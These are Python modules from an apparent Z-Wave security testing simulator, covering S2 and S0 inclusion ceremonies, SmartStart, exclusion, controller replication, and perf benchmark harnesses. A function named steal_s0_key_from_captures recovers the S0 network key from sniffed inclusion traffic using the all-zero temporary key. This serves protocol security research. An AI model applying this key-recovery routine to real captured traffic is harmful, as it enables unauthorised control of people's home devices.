KEY_S2_UNAUTHENTICATED = 0x01
KEY_S2_AUTHENTICATED = 0x02
KEY_S2_ACCESS_CONTROL = 0x04
KEY_S0 = 0x80

#: Fixed 13-byte CCM nonce used for the single key-transfer message of a
#: ceremony (each ceremony derives a fresh temporary key, so no reuse).
_KEY_TRANSFER_NONCE = b"S2-KEY-XFER\x00\x00"


@dataclass
class JoiningDevice:
    """A factory-fresh device waiting to be included."""

    name: str
    node_info: NodeInfo
    requested_keys: int = KEY_S2_ACCESS_CONTROL | KEY_S2_AUTHENTICATED
    rng: random.Random = field(default_factory=random.Random)

    # Populated by the ceremony:
    home_id: Optional[int] = None
    node_id: Optional[int] = None
    network_key: Optional[bytes] = None
    granted_keys: int = 0

    def __post_init__(self) -> None:
        self.bootstrap = S2Bootstrap(self.rng)

    @property
    def included(self) -> bool:
        return self.node_id is not None

    @property
    def dsk_pin(self) -> int:
        """The 5-digit pin printed on the device label."""
        return self.bootstrap.dsk_pin


@dataclass
class InclusionResult:
    """What one ceremony produced."""

    node_id: int
    transport: TransportMode
    granted_keys: int
    frames_exchanged: int
    transcript: Tuple[str, ...]


class InclusionCeremony:
    """Runs add-node ceremonies against one controller's network."""

    #: Simulated seconds per ceremony message (airtime + processing).
    STEP_TIME = 0.25

    def __init__(
        self,
        controller: VirtualController,
        medium: RadioMedium,
        clock: SimClock,
        rng: Optional[random.Random] = None,
    ):
        self._controller = controller
        self._medium = medium
        self._clock = clock
        self._rng = rng or random.Random(0)
        self._frames = 0
        self._transcript: List[str] = []

    # -- plumbing -----------------------------------------------------------------

    def _emit(self, sender: str, src: int, dst: int, payload: ApplicationPayload, note: str) -> None:
        """Transmit one ceremony message over the air and log it."""
        frame = ZWaveFrame(
            home_id=self._controller.home_id if src != 0 else 0,
            src=src,
            dst=dst,
            payload=payload.encode(),
            ack_request=False,
        )
        self._medium.transmit(sender, frame.encode(), 100.0)
        self._clock.advance(self.STEP_TIME)
        self._frames += 1
        self._transcript.append(note)

    def _controller_emit(self, dst: int, payload: ApplicationPayload, note: str) -> None:
        self._emit(self._controller.name, self._controller.node_id, dst, payload, note)

    def _device_emit(self, device_endpoint: str, src: int, payload: ApplicationPayload, note: str) -> None:
        self._emit(device_endpoint, src, self._controller.node_id, payload, note)

    def _next_node_id(self) -> int:
        used = set(self._controller.nvm.node_ids()) | {self._controller.node_id}
        for candidate in range(2, 233):
            if candidate not in used:
                return candidate
        raise SimulatorError("network is full: no free node ids")

    # -- the ceremony ------------------------------------------------------------------

    def include(
        self,
        device: JoiningDevice,
        device_endpoint: str,
        transport: TransportMode = TransportMode.S2,
        user_pin: Optional[int] = None,
    ) -> InclusionResult:
        """Add *device* to the network over the given transport.

        *device_endpoint* is the medium endpoint name the device transmits
        from.  For S2, *user_pin* models the homeowner typing the DSK pin;
        ``None`` accepts the device's true pin (the "unauthenticated S2"
        convenience path), a wrong pin aborts the ceremony.
        """
        if device.included:
            raise SimulatorError(f"{device.name} is already included")
        self._frames = 0
        self._transcript = []

        # 1. The controller advertises inclusion mode.
        self._controller_emit(
            BROADCAST_NODE_ID,
            ApplicationPayload(0x01, 0x08, bytes([0x01])),
            "controller: TRANSFER_PRESENTATION (inclusion mode)",
        )
        # 2. The joining device broadcasts its NIF.
        self._emit(
            device_endpoint,
            0x00,
            BROADCAST_NODE_ID,
            encode_nif_report(device.node_info),
            f"{device.name}: NIF broadcast (requesting inclusion)",
        )
        # 3. The controller assigns the next free node id.
        node_id = self._next_node_id()
        self._controller_emit(
            BROADCAST_NODE_ID,
            ApplicationPayload(0x01, 0x09, bytes([0x01, node_id, device.node_info.capability])),
            f"controller: assign node id #{node_id}",
        )
        device.home_id = self._controller.home_id
        device.node_id = node_id

        if transport is TransportMode.S2:
            granted = self._s2_bootstrap(device, device_endpoint, node_id, user_pin)
        elif transport is TransportMode.S0:
            granted = self._s0_key_exchange(device, device_endpoint, node_id)
        else:
            granted = 0

        # Final step: the controller persists the pairing.
        self._controller.nvm.add(
            NodeRecord(
                node_id=node_id,
                basic=device.node_info.basic,
                generic=device.node_info.generic,
                specific=device.node_info.specific,
                listening=device.node_info.listening,
                secure=granted != 0,
                granted_keys=granted,
                name=device.name,
            )
        )
        device.granted_keys = granted
        return InclusionResult(
            node_id=node_id,
            transport=transport,
            granted_keys=granted,
            frames_exchanged=self._frames,
            transcript=tuple(self._transcript),
        )

    # -- S2 bootstrap (Curve25519 + DSK) ---------------------------------------------------

    def _s2_bootstrap(
        self,
        device: JoiningDevice,
        device_endpoint: str,
        node_id: int,
        user_pin: Optional[int],
    ) -> int:
        controller_boot = S2Bootstrap(self._rng)
        # KEX negotiation.
        self._controller_emit(node_id, ApplicationPayload(0x9F, 0x04, b""), "controller: KEX_GET")
        self._device_emit(
            device_endpoint, node_id,
            ApplicationPayload(0x9F, 0x05, bytes([0x00, 0x02, 0x01, device.requested_keys])),
            f"{device.name}: KEX_REPORT (requesting keys 0x{device.requested_keys:02X})",
        )
        granted = device.requested_keys
        self._controller_emit(
            node_id,
            ApplicationPayload(0x9F, 0x06, bytes([0x00, 0x02, 0x01, granted])),
            f"controller: KEX_SET (granting keys 0x{granted:02X})",
        )
        # Public key exchange — real Curve25519 points on the air.
        self._device_emit(
            device_endpoint, node_id,
            ApplicationPayload(0x9F, 0x08, bytes([0x01]) + device.bootstrap.public),
            f"{device.name}: PUBLIC_KEY_REPORT (including node)",
        )
        self._controller_emit(
            node_id,
            ApplicationPayload(0x9F, 0x08, bytes([0x00]) + controller_boot.public),
            "controller: PUBLIC_KEY_REPORT",
        )
        # DSK authentication: the homeowner compares the printed pin.
        expected_pin = device.dsk_pin
        entered = expected_pin if user_pin is None else user_pin
        if entered != expected_pin:
            self._controller_emit(
                node_id,
                ApplicationPayload(0x9F, 0x07, bytes([0x05])),  # KEX_FAIL: auth
                "controller: KEX_FAIL (DSK pin mismatch)",
            )
            device.home_id = None
            device.node_id = None
            raise AuthenticationError("DSK pin verification failed; inclusion aborted")
        self._transcript.append(f"homeowner verified DSK pin {expected_pin:05d}")

        # Both ends derive the same temporary key from the ECDH exchange.
        temp_controller = controller_boot.derive_temp_key(device.bootstrap.public, initiator=True)
        temp_device = device.bootstrap.derive_temp_key(controller_boot.public, initiator=False)
        if temp_controller != temp_device:  # pragma: no cover - crypto invariant
            raise AuthenticationError("ECDH temporary keys diverged")

        # The network key crosses the air under the temporary key.
        network_key = self._controller_network_key()
        blob = ccm_encrypt(temp_controller, _KEY_TRANSFER_NONCE, b"", network_key)
        self._controller_emit(
            node_id,
            ApplicationPayload(0x9F, 0x03, bytes([0x00, 0x00]) + blob),
            "controller: network key transfer (CCM under ECDH temp key)",
        )
        device.network_key = ccm_decrypt(temp_device, _KEY_TRANSFER_NONCE, b"", blob)
        self._device_emit(
            device_endpoint, node_id,
            ApplicationPayload(0x9F, 0x09, bytes([0x01])),
            f"{device.name}: S2_TRANSFER_END (key verified)",
        )
        return granted

    # -- S0 key exchange (the all-zero temp key weakness) -----------------------------------

    def _s0_key_exchange(
        self, device: JoiningDevice, device_endpoint: str, node_id: int
    ) -> int:
        self._controller_emit(
            node_id, ApplicationPayload(0x98, 0x04, bytes([0x00])), "controller: SCHEME_GET"
        )
        self._device_emit(
            device_endpoint, node_id,
            ApplicationPayload(0x98, 0x05, bytes([0x00])),
            f"{device.name}: SCHEME_REPORT (scheme 0)",
        )
        # The device hands out a nonce from its TEMPORARY-key S0 context.
        device_temp = S0Context(TEMP_KEY, self._rng)
        nonce = device_temp.issue_nonce()
        self._device_emit(
            device_endpoint, node_id,
            ApplicationPayload(0x98, 0x80, nonce),
            f"{device.name}: NONCE_REPORT",
        )
        # The controller sends NETWORK_KEY_SET encrypted under the FIXED
        # all-zero temporary key — the S0 inclusion weakness.
        controller_temp = S0Context(TEMP_KEY, self._rng)
        network_key = self._controller_network_key()
        inner = bytes([0x98, CMD_NETWORK_KEY_SET]) + network_key
        encap = controller_temp.encapsulate(
            inner, nonce, src=self._controller.node_id, dst=node_id
        )
        self._controller_emit(
            node_id,
            ApplicationPayload(0x98, CMD_MESSAGE_ENCAPSULATION, encap.encode()),
            "controller: NETWORK_KEY_SET (S0-encapsulated under the ZERO temp key)",
        )
        plain = device_temp.decapsulate(encap, src=self._controller.node_id, dst=node_id)
        device.network_key = plain[2:18]
        self._device_emit(
            device_endpoint, node_id,
            ApplicationPayload(0x98, 0x07, b""),
            f"{device.name}: NETWORK_KEY_VERIFY",
        )
        return KEY_S0

    def _controller_network_key(self) -> bytes:
        """The controller's network key (the ceremony acts on its behalf)."""
        key = getattr(self._controller, "_network_key", None)
        if key is None:
            raise SimulatorError("controller has no network key configured")
        return key


class SmartStartList:
    """SmartStart: pre-provisioned inclusion by DSK.

    The installer scans each device's QR code (its DSK) into the
    controller's provisioning list ahead of time; when the device later
    announces itself (the SMART_START_JOIN prime), the controller includes
    it over S2 *without* the interactive pin ceremony — the pin was
    effectively entered at scan time.  Unknown devices announcing
    themselves are ignored, which is the security point of the feature.
    """

    def __init__(self, ceremony: InclusionCeremony):
        self._ceremony = ceremony
        self._provisioned: dict = {}
        self.ignored_announcements = 0

    def provision(self, dsk_pin: int, label: str = "") -> None:
        """Scan a device's QR code into the provisioning list."""
        self._provisioned[dsk_pin] = label

    @property
    def provisioned_count(self) -> int:
        return len(self._provisioned)

    def is_provisioned(self, dsk_pin: int) -> bool:
        return dsk_pin in self._provisioned

    def announce(
        self, device: JoiningDevice, device_endpoint: str
    ) -> Optional[InclusionResult]:
        """A device broadcasts its SmartStart prime; include it if listed."""
        if device.dsk_pin not in self._provisioned:
            self.ignored_announcements += 1
            return None
        result = self._ceremony.include(
            device,
            device_endpoint,
            TransportMode.S2,
            user_pin=device.dsk_pin,  # the pin was verified at scan time
        )
        del self._provisioned[device.dsk_pin]
        return result


class ExclusionCeremony:
    """Remove-node: the inverse ceremony."""

    def __init__(
        self,
        controller: VirtualController,
        medium: RadioMedium,
        clock: SimClock,
    ):
        self._controller = controller
        self._medium = medium
        self._clock = clock

    def exclude(self, device: JoiningDevice, device_endpoint: str) -> int:
        """Remove *device* from the network; returns its former node id."""
        if not device.included:
            raise SimulatorError(f"{device.name} is not part of any network")
        node_id = device.node_id
        # Controller advertises exclusion mode; the device answers with its
        # NIF; the controller confirms the reset.
        presentation = ZWaveFrame(
            home_id=self._controller.home_id,
            src=self._controller.node_id,
            dst=BROADCAST_NODE_ID,
            payload=ApplicationPayload(0x01, 0x08, bytes([0x02])).encode(),
            ack_request=False,
        )
        self._medium.transmit(self._controller.name, presentation.encode(), 100.0)
        self._clock.advance(0.25)
        nif = ZWaveFrame(
            home_id=self._controller.home_id,
            src=node_id,
            dst=BROADCAST_NODE_ID,
            payload=encode_nif_report(device.node_info).encode(),
            ack_request=False,
        )
        self._medium.transmit(device_endpoint, nif.encode(), 100.0)
        self._clock.advance(0.25)
        if node_id in self._controller.nvm:
            self._controller.nvm.remove(node_id)
        device.home_id = None
        device.node_id = None
        device.network_key = None
        device.granted_keys = 0
        return node_id


def replicate_to_secondary(
    primary: VirtualController,
    secondary: VirtualController,
    medium: RadioMedium,
    clock: SimClock,
    secondary_node_id: int = 5,
) -> int:
    """Controller replication: copy the primary's node table to a secondary.

    Real replication streams PROTOCOL_TRANSFER_NODE_INFO frames (class
    0x01 command 0x09) for every record and ends with TRANSFER_END; the
    frames cross the medium (sniffable) while the record contents are
    copied controller-to-controller.  Returns the number of replicated
    records.
    """
    transferred = 0
    for seq, node_id in enumerate(primary.nvm.node_ids()):
        record = primary.nvm.get(node_id)
        frame = ZWaveFrame(
            home_id=primary.home_id,
            src=primary.node_id,
            dst=secondary_node_id,
            payload=ApplicationPayload(
                0x01, 0x09, bytes([seq & 0xFF, node_id, 0x80 if record.listening else 0x00])
            ).encode(),
            ack_request=False,
        )
        medium.transmit(primary.name, frame.encode(), 100.0)
        clock.advance(0.25)
        if node_id not in secondary.nvm and node_id != secondary.nvm.own_node_id:
            secondary.nvm.raw_write(record)
            transferred += 1
    end = ZWaveFrame(
        home_id=primary.home_id,
        src=primary.node_id,
        dst=secondary_node_id,
        payload=ApplicationPayload(0x01, 0x0B, bytes([0x00])).encode(),
        ack_request=False,
    )
    medium.transmit(primary.name, end.encode(), 100.0)
    clock.advance(0.25)
    return transferred


def steal_s0_key_from_captures(captures) -> Optional[bytes]:
    """The classic attack: recover the S0 network key from a sniffed
    inclusion.

    Scans *captures* (e.g. :meth:`Transceiver.captures`) for an S0
    message-encapsulation, decrypts it under the well-known all-zero
    temporary key, and returns the 16-byte network key if the inner
    command is NETWORK_KEY_SET.
    """
    nonces = {}
    for capture in captures:
        frame = capture.frame
        if frame is None or not frame.payload or frame.payload[0] != 0x98:
            continue
        payload = frame.payload
        if len(payload) >= 2 and payload[1] == 0x80 and len(payload) == 2 + 8:
            nonces[payload[2]] = payload[2:10]
        if len(payload) >= 2 and payload[1] == CMD_MESSAGE_ENCAPSULATION:
            try:
                encap = S0Encapsulated.decode(payload[2:])
            except Exception:
                continue
            nonce = nonces.get(encap.receiver_nonce_id)
            if nonce is None:
                continue
            thief = S0Context(TEMP_KEY)
            thief._issued[nonce[0]] = nonce  # plant the sniffed nonce
            try:
                inner = thief.decapsulate(encap, src=frame.src, dst=frame.dst)
            except Exception:
                continue
            if len(inner) >= 18 and inner[0] == 0x98 and inner[1] == CMD_NETWORK_KEY_SET:
                return inner[2:18]
    return None
