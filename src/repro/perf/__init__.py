"""Hot-path microbenchmarks with a regression-gated canonical document.

``zcover perf`` runs the seeded workloads in :mod:`repro.perf.workloads`
through the harness in :mod:`repro.perf.bench` and emits the canonical
``BENCH_core.json`` described by :mod:`repro.perf.document`; CI diffs it
against the committed baseline under a tolerance gate.
"""

from .bench import (
    BenchReport,
    BenchTiming,
    PerfError,
    Regression,
    compare,
    resolve_workloads,
    run_bench,
)
from .document import (
    DOCUMENT_NAME,
    SCHEMA,
    SCHEMA_VERSION,
    assert_json_clean,
    document_meta,
    document_results,
    dumps_document,
    load_document,
    render_text,
    report_to_document,
    validate_document,
    write_document,
)
from .workloads import CALIBRATION, WORKLOADS, WorkloadRun

__all__ = [
    "BenchReport",
    "BenchTiming",
    "CALIBRATION",
    "DOCUMENT_NAME",
    "PerfError",
    "Regression",
    "SCHEMA",
    "SCHEMA_VERSION",
    "WORKLOADS",
    "WorkloadRun",
    "assert_json_clean",
    "compare",
    "document_meta",
    "document_results",
    "dumps_document",
    "load_document",
    "render_text",
    "report_to_document",
    "resolve_workloads",
    "run_bench",
    "validate_document",
    "write_document",
]
