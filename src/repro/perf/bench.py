"""The microbenchmark harness: time workloads, compare against a baseline.

:func:`run_bench` executes the registered workloads (see
:mod:`repro.perf.workloads`), timing each thunk with the sanctioned
wall-clock reader :func:`repro.radio.clock.wall_perf_counter_ns` and
verifying that every repetition reproduces the same deterministic
checksum.  Workload counters recorded through :mod:`repro.obs` during the
runs ride along in the emitted document.

:func:`compare` implements the regression gate: per-workload cost is
normalised by the calibration loop's cost on the *same* host, so the
committed baseline transfers between machines — a ratio moves only when
the code's relative cost moves.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

from ..obs.metrics import MetricsCollector, MetricsSnapshot, collecting
from ..radio.clock import wall_perf_counter_ns
from .workloads import CALIBRATION, WORKLOADS, WorkloadRun


class PerfError(ValueError):
    """A bench request or document is malformed."""


@dataclass(frozen=True)
class BenchTiming:
    """Measured cost of one workload."""

    name: str
    ops: int
    reps: int
    best_ns: int
    mean_ns: int
    checksum: int

    @property
    def ns_per_op(self) -> float:
        return self.best_ns / self.ops if self.ops else float(self.best_ns)

    @property
    def ops_per_sec(self) -> float:
        return self.ops / (self.best_ns / 1e9) if self.best_ns else 0.0


@dataclass(frozen=True)
class BenchReport:
    """One harness run: timings plus the observability side-channel."""

    timings: Tuple[BenchTiming, ...]
    snapshot: MetricsSnapshot
    fast: bool
    repeats: int

    def timing(self, name: str) -> Optional[BenchTiming]:
        for entry in self.timings:
            if entry.name == name:
                return entry
        return None

    def ratios(self) -> Dict[str, float]:
        """Per-op cost of each workload in calibration-loop units."""
        calibration = self.timing(CALIBRATION)
        if calibration is None or calibration.ns_per_op <= 0.0:
            raise PerfError("bench report lacks a usable calibration timing")
        unit = calibration.ns_per_op
        return {t.name: t.ns_per_op / unit for t in self.timings}


def resolve_workloads(names: Optional[Sequence[str]]) -> List[str]:
    """Validate a workload subset, always including the calibration loop."""
    if not names:
        return list(WORKLOADS)
    unknown = sorted(set(names) - set(WORKLOADS))
    if unknown:
        known = ", ".join(WORKLOADS)
        raise PerfError(f"unknown workload(s) {unknown}; known: {known}")
    ordered = [name for name in WORKLOADS if name in set(names)]
    if CALIBRATION not in ordered:
        ordered.insert(0, CALIBRATION)
    return ordered


def run_bench(
    names: Optional[Sequence[str]] = None,
    fast: bool = False,
    repeats: int = 3,
) -> BenchReport:
    """Time each selected workload *repeats* times; best-of wins.

    Every repetition must reproduce the workload's seeded checksum —
    a mismatch means a hot path has become nondeterministic, which is a
    harder failure than any slowdown.
    """
    if repeats < 1:
        raise PerfError("repeats must be >= 1")
    selected = resolve_workloads(names)
    collector = MetricsCollector()
    timings: List[BenchTiming] = []
    with collecting(collector):
        for name in selected:
            thunk = WORKLOADS[name](fast)
            elapsed: List[int] = []
            reference: Optional[WorkloadRun] = None
            for _ in range(repeats):
                start = wall_perf_counter_ns()
                run = thunk()
                elapsed.append(wall_perf_counter_ns() - start)
                if reference is None:
                    reference = run
                elif run.checksum != reference.checksum or run.ops != reference.ops:
                    raise PerfError(
                        f"workload {name!r} is nondeterministic: "
                        f"(ops={run.ops}, crc={run.checksum:#010x}) != "
                        f"(ops={reference.ops}, crc={reference.checksum:#010x})"
                    )
            timings.append(
                BenchTiming(
                    name=name,
                    ops=reference.ops,
                    reps=repeats,
                    best_ns=min(elapsed),
                    mean_ns=sum(elapsed) // len(elapsed),
                    checksum=reference.checksum,
                )
            )
    return BenchReport(
        timings=tuple(timings),
        snapshot=collector.snapshot(),
        fast=fast,
        repeats=repeats,
    )


# -- the regression gate --------------------------------------------------------


@dataclass(frozen=True)
class Regression:
    """One workload that failed the baseline comparison."""

    name: str
    kind: str  # "slowdown" | "checksum" | "ops"
    detail: str


def compare(
    current: dict, baseline: dict, tolerance: float = 0.25,
    only: Optional[Sequence[str]] = None,
) -> List[Regression]:
    """Diff a current perf document against a committed baseline.

    Returns the regressions: workloads whose calibration-normalised cost
    grew by more than *tolerance* (fractional, e.g. 0.25 = +25%), plus
    any checksum or op-count drift — those mean the deterministic
    workload itself changed, so the timing comparison is void and the
    baseline needs a deliberate regeneration.

    *only* restricts the gate to those baseline workloads: a run that
    benchmarked a subset (``zcover perf --workloads campaign_fps``) can be
    compared against the full committed baseline without every un-run
    workload counting as "missing".  A full comparison (``only=None``)
    still treats a baseline workload absent from the current run as a
    regression.
    """
    from .document import document_results, document_meta

    cur_meta, base_meta = document_meta(current), document_meta(baseline)
    if cur_meta.get("fast") != base_meta.get("fast"):
        return [
            Regression(
                name="*",
                kind="ops",
                detail=(
                    f"mode mismatch: current fast={cur_meta.get('fast')} vs "
                    f"baseline fast={base_meta.get('fast')}"
                ),
            )
        ]
    cur_results = document_results(current)
    base_results = document_results(baseline)
    regressions: List[Regression] = []
    for name in base_results:
        if name == CALIBRATION:
            continue
        if only is not None and name not in only:
            continue
        entry = cur_results.get(name)
        base = base_results[name]
        if entry is None:
            regressions.append(
                Regression(name, "ops", "workload missing from current run")
            )
            continue
        if entry["checksum"] != base["checksum"] or entry["ops"] != base["ops"]:
            regressions.append(
                Regression(
                    name,
                    "checksum",
                    f"workload output drifted: ops {base['ops']}→{entry['ops']}, "
                    f"crc {base['checksum']:#010x}→{entry['checksum']:#010x}",
                )
            )
            continue
        base_ratio = base["ratio_to_calibration"]
        cur_ratio = entry["ratio_to_calibration"]
        if base_ratio <= 0.0:
            continue
        growth = cur_ratio / base_ratio - 1.0
        if growth > tolerance:
            regressions.append(
                Regression(
                    name,
                    "slowdown",
                    f"normalised cost {base_ratio:.2f}→{cur_ratio:.2f} "
                    f"(+{growth * 100.0:.1f}% > {tolerance * 100.0:.0f}% tolerance)",
                )
            )
    return regressions
