"""The canonical ``BENCH_core.json`` perf document (schema v1).

Mirrors the observability export conventions: a schema-versioned
envelope, canonical serialisation (sorted keys, two-space indent,
trailing newline, via the shared :func:`repro.obs.export.canonical_dumps`)
and JSON-clean content all the way down.  Two fields families live side
by side and must not be confused:

* **deterministic** — ``ops`` and ``checksum`` per workload are pure
  functions of the seeded workloads and are compared exactly;
* **measured** — ``best_ns``/``mean_ns``/``ops_per_sec`` are wall-clock
  readings, and ``ratio_to_calibration`` is the machine-portable form
  the baseline gate diffs under a tolerance.

The embedded ``metrics`` member is a complete ``zcover-obs-metrics``
document (the counters the hot paths recorded while being timed), so
``zcover obs --in`` can render a bench run's side-channel directly.
"""

from __future__ import annotations

import json
from typing import Dict, List, Optional

from ..obs.export import canonical_dumps, snapshot_to_document
from .bench import BenchReport, PerfError

SCHEMA = "zcover-perf-bench"
SCHEMA_VERSION = 1

#: The conventional document filename (CLI default, CI artifact name).
DOCUMENT_NAME = "BENCH_core.json"


def report_to_document(report: BenchReport, meta: Optional[dict] = None) -> dict:
    """Wrap a :class:`BenchReport` in the schema-v1 envelope."""
    ratios = report.ratios()
    results: Dict[str, dict] = {}
    for timing in report.timings:
        results[timing.name] = {
            "ops": timing.ops,
            "reps": timing.reps,
            "checksum": timing.checksum,
            "best_ns": timing.best_ns,
            "mean_ns": timing.mean_ns,
            "ns_per_op": round(timing.ns_per_op, 3),
            "ops_per_sec": round(timing.ops_per_sec, 3),
            "ratio_to_calibration": round(ratios[timing.name], 4),
        }
    envelope_meta = {"fast": report.fast, "repeats": report.repeats}
    envelope_meta.update(meta or {})
    return {
        "schema": SCHEMA,
        "schema_version": SCHEMA_VERSION,
        "meta": envelope_meta,
        "results": {name: results[name] for name in sorted(results)},
        "metrics": snapshot_to_document(
            report.snapshot, meta={"kind": "perf-bench"}
        ),
    }


def validate_document(doc: dict) -> None:
    """Check the envelope and per-workload layout; raise on mismatch."""
    if doc.get("schema") != SCHEMA:
        raise PerfError(f"not a {SCHEMA} document (schema={doc.get('schema')!r})")
    if doc.get("schema_version") != SCHEMA_VERSION:
        raise PerfError(
            f"schema version {doc.get('schema_version')!r} != expected {SCHEMA_VERSION}"
        )
    results = doc.get("results")
    if not isinstance(results, dict) or not results:
        raise PerfError("document carries no results")
    required = {
        "ops",
        "reps",
        "checksum",
        "best_ns",
        "mean_ns",
        "ns_per_op",
        "ops_per_sec",
        "ratio_to_calibration",
    }
    for name, entry in results.items():
        if not isinstance(entry, dict) or not required <= set(entry):
            missing = sorted(required - set(entry or ()))
            raise PerfError(f"workload {name!r} entry is missing {missing}")
    assert_json_clean(doc)


def document_results(doc: dict) -> Dict[str, dict]:
    """The per-workload result table, after envelope validation."""
    validate_document(doc)
    return doc["results"]


def document_meta(doc: dict) -> dict:
    """Return the document's ``meta`` mapping (empty dict when absent)."""
    return doc.get("meta", {})


def dumps_document(doc: dict) -> str:
    """Canonical serialisation — identical input, identical bytes."""
    return canonical_dumps(doc)


def write_document(doc: dict, path: str) -> None:
    """Write *doc* to *path* in canonical serialized form."""
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(dumps_document(doc))


def load_document(path: str) -> dict:
    """Read and validate a perf document."""
    with open(path, "r", encoding="utf-8") as handle:
        doc = json.load(handle)
    validate_document(doc)
    return doc


def assert_json_clean(node: object, path: str = "$") -> None:
    """Prove a document tree is plain JSON data, the W3xx way.

    The wire-safety lint walks *type annotations*; this is its runtime
    twin for emitted documents: only dicts with string keys, lists, str,
    int, float, bool and None may appear.
    """
    if isinstance(node, dict):
        for key, value in node.items():
            if not isinstance(key, str):
                raise PerfError(f"{path}: non-string key {key!r}")
            assert_json_clean(value, f"{path}.{key}")
        return
    if isinstance(node, (list, tuple)):
        if isinstance(node, tuple):
            raise PerfError(f"{path}: tuple survives json.dumps but not a round-trip")
        for index, value in enumerate(node):
            assert_json_clean(value, f"{path}[{index}]")
        return
    if node is None or isinstance(node, (str, bool, int, float)):
        return
    raise PerfError(f"{path}: {type(node).__name__} is not JSON-clean")


# -- rendering ------------------------------------------------------------------


def render_text(doc: dict) -> str:
    """Human-readable bench table."""
    validate_document(doc)
    meta = document_meta(doc)
    mode = "fast" if meta.get("fast") else "full"
    lines = [
        f"{SCHEMA} v{doc.get('schema_version')} "
        f"({mode} mode, {meta.get('repeats')} repetition(s))",
        "",
        f"{'workload':<22} {'ops':>7} {'ns/op':>12} {'ops/sec':>12} {'xCal':>9}",
    ]
    for name in sorted(doc["results"]):
        entry = doc["results"][name]
        lines.append(
            f"{name:<22} {entry['ops']:>7} {entry['ns_per_op']:>12.1f} "
            f"{entry['ops_per_sec']:>12.1f} {entry['ratio_to_calibration']:>9.2f}"
        )
    return "\n".join(lines)
