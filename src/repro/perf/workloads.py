"""Seeded deterministic workloads for the hot-path microbenchmarks.

Each workload exercises one loop the campaign throughput depends on —
frame codec round-trips, PSM mutation batches, controller dispatch, the
full engine frames/sec loop, and the resultio wire codec — plus a pure
interpreter *calibration* loop used to normalise timings across machines.

A workload is a ``prepare(fast) -> thunk`` pair: ``prepare`` builds the
inputs outside the timed region (registries, SUTs, pre-drawn field
values) and returns a zero-argument thunk whose every call performs the
measured work and returns a :class:`WorkloadRun`.  Thunks draw entropy
only from generators seeded inside ``prepare``, so the ``checksum``
fingerprint — a CRC-32 over everything the run produced — is identical
on every machine and every repetition.  Wall-clock timing lives in
:mod:`repro.perf.bench`, never here.
"""

from __future__ import annotations

import random
import zlib
from dataclasses import dataclass
from typing import Callable, Dict, Tuple

from ..zwave.frame import ZWaveFrame


@dataclass(frozen=True)
class WorkloadRun:
    """What one execution of a workload thunk produced."""

    ops: int  # logical operations performed (frames, cases, packets, ...)
    checksum: int  # CRC-32 fingerprint; must be identical across reps


#: ``prepare(fast)`` — build inputs untimed, return the timed thunk.
WorkloadPrepare = Callable[[bool], Callable[[], WorkloadRun]]

#: The calibration workload's registry key.
CALIBRATION = "calibration"

#: Command classes the dispatch/fps workloads drive: small, stateless-safe
#: classes (BASIC, BINARY/MULTILEVEL SWITCH, CONFIGURATION) whose handlers
#: never hang the firmware or tamper with the NVM, keeping repeated runs
#: against one SUT byte-stable.
_SAFE_CMDCLS: Tuple[int, ...] = (0x20, 0x25, 0x26, 0x70)


def _crc(checksum: int, data: bytes) -> int:
    return zlib.crc32(data, checksum)


# -- calibration ----------------------------------------------------------------


def prepare_calibration(fast: bool) -> Callable[[], WorkloadRun]:
    """A fixed pure-Python loop: the machine-speed unit of account.

    Every other workload's cost is reported as a multiple of this loop's
    per-op cost, which cancels host speed out of baseline comparisons:
    a committed ratio regresses only when the *code* gets slower.
    """
    iterations = 120_000

    def run() -> WorkloadRun:
        total = 17
        for i in range(iterations):
            total = (total * 33 + i) & 0xFFFFFFFF
        return WorkloadRun(iterations, _crc(0, total.to_bytes(4, "big")))

    return run


# -- frame codec ----------------------------------------------------------------


def prepare_frame_codec(fast: bool) -> Callable[[], WorkloadRun]:
    """MAC frame construct → encode → strict decode round-trips."""
    rng = random.Random(0xC0DEC)
    count = 128 if fast else 512
    fields = []
    for _ in range(count):
        payload = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 24)))
        fields.append(
            (
                rng.randrange(2**32),
                rng.randrange(1, 233),
                rng.randrange(1, 233),
                payload,
                rng.randrange(16),
            )
        )

    def run() -> WorkloadRun:
        checksum = 0
        for home_id, src, dst, payload, sequence in fields:
            frame = ZWaveFrame(
                home_id=home_id, src=src, dst=dst, payload=payload, sequence=sequence
            )
            raw = frame.encode()
            decoded = ZWaveFrame.decode(raw, verify=True)
            checksum = _crc(checksum, raw)
            checksum = _crc(checksum, decoded.payload)
        return WorkloadRun(len(fields), checksum)

    return run


# -- mutation batches -----------------------------------------------------------


def prepare_mutation_batch(fast: bool) -> Callable[[], WorkloadRun]:
    """PSM batch generation: two passes per CMDCL, as requeued trials do."""
    from ..core.mutation import PositionSensitiveMutator
    from ..zwave.registry import load_full_registry

    registry = load_full_registry()
    per_class = 32 if fast else 96
    cmdcls = (0x20, 0x25, 0x26, 0x70, 0x85, 0x86)

    def run() -> WorkloadRun:
        mutator = PositionSensitiveMutator(registry, random.Random(7))
        checksum = 0
        ops = 0
        for _ in range(2):  # second pass measures the requeue path
            for cmdcl in cmdcls:
                stream = mutator.generate(cmdcl)
                for _ in range(per_class):
                    case = next(stream)
                    checksum = _crc(checksum, case.encode())
                    checksum = _crc(checksum, case.operator.value.encode())
                    ops += 1
        return WorkloadRun(ops, checksum)

    return run


# -- controller dispatch --------------------------------------------------------


def prepare_controller_dispatch(fast: bool) -> Callable[[], WorkloadRun]:
    """Raw frames through the controller's full receive/dispatch path.

    The SUT persists across repetitions; the injected commands are GETs
    of stateless classes plus undefined-command probes, so each pass
    leaves the firmware state untouched and the per-pass stats delta —
    the checksum input — is identical every time.
    """
    from ..core.fingerprint import SCANNER_NODE_ID
    from ..simulator.testbed import build_sut

    sut = build_sut("D1", seed=9, traffic=False)
    rng = random.Random(0xD15)
    count = 300 if fast else 800
    home_id = sut.profile.home_id
    node_id = sut.controller.node_id
    raws = []
    for i in range(count):
        cmdcl = rng.choice(_SAFE_CMDCLS)
        if rng.random() < 0.7:
            payload = bytes([cmdcl, 0x02])  # GET
        else:
            payload = bytes([cmdcl, rng.randrange(0x18, 0x33), 0x00])  # undefined
        frame = ZWaveFrame(
            home_id=home_id,
            src=SCANNER_NODE_ID,
            dst=node_id,
            payload=payload,
            sequence=i % 16,
        )
        raws.append(frame.encode())

    def run() -> WorkloadRun:
        stats = sut.controller.stats
